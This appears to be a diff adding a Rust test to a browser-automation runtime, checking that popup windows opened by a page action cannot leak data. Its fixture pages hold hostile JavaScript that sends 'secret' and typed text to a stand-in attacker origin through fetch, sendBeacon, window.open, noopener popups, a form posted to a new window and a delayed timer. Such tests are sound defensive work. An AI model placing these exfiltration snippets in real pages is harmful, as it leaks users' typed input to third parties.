@@ -1435,3 +1435,76 @@ send(); setInterval(send, 300);
         "no handshake reached the attacker: {late:?}"
     );
 }
+
+/// Issue 29: a window an action opened ran outside the action's window — `window.open` from a
+/// handler, a `noopener` one, a form posted into a new window, and a window of the page's own
+/// origin whose script sends on — and a window a held tab opens later, from a timer, carried
+/// what was typed. Every such window is set up before it runs and judged with its opener.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_window_an_action_opens_is_inside_its_window() {
+    let env = env("hostile-popups", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.html(
+        "/relay.html",
+        format!(
+            r#"<!doctype html><title>Relay</title><p>relay</p><script>
+fetch('{evil}/relay', {{method: 'POST', body: 'secret', mode: 'no-cors'}}).catch(() => {{}});
+navigator.sendBeacon('{evil}/relay-beacon', 'secret');
+</script>"#
+        ),
+    );
+    env.server.html(
+        "/opener.html",
+        format!(
+            r#"<!doctype html><title>Opener</title>
+<input aria-label=Note id=note>
+<button id=share>Share</button><button id=quiet>Quiet</button><button id=relay>Relay</button><button id=pass>Pass</button>
+<form id=f method=post target=_blank action="{evil}/form"><input type=hidden name=d value=secret></form>
+<script>
+const note = () => encodeURIComponent(document.getElementById('note').value || 'secret');
+document.getElementById('share').onclick = () => window.open('{evil}/w?d=' + note());
+document.getElementById('quiet').onclick = () => window.open('{evil}/n?d=' + note(), '_blank', 'noopener');
+document.getElementById('relay').onclick = () => window.open('/relay.html');
+document.getElementById('pass').onclick = () => document.getElementById('f').submit();
+document.getElementById('note').addEventListener('input', () => {{
+  clearTimeout(window.later);
+  window.later = setTimeout(() => window.open('{evil}/later?d=' + note(), '_blank', 'noopener'), 3000);
+}});
+</script>"#
+        ),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/opener.html"))
+        .await
+        .unwrap();
+    for name in ["Share", "Quiet", "Relay", "Pass"] {
+        let o = crate::observe_until(&env.runtime, &env.session, name).await;
+        env.runtime
+            .act(
+                &env.session,
+                None,
+                &click(&o, name),
+                &Default::default(),
+                Duration::ZERO,
+            )
+            .await
+            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
+    }
+    crate::eventually("the window of the page's own origin opened", || {
+        !env.server.requests_to("/relay.html").is_empty()
+    })
+    .await;
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "no window an action opened reached the attacker: {reached:?}"
+    );
+    // Typed text: a window the page opens long after the action is still judged by the hold.
+    type_into(&env, "Note", "hunter-typed-9").await.unwrap();
+    tokio::time::sleep(Duration::from_millis(3500)).await;
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "a held tab's later window reached the attacker: {reached:?}"
+    );
+}
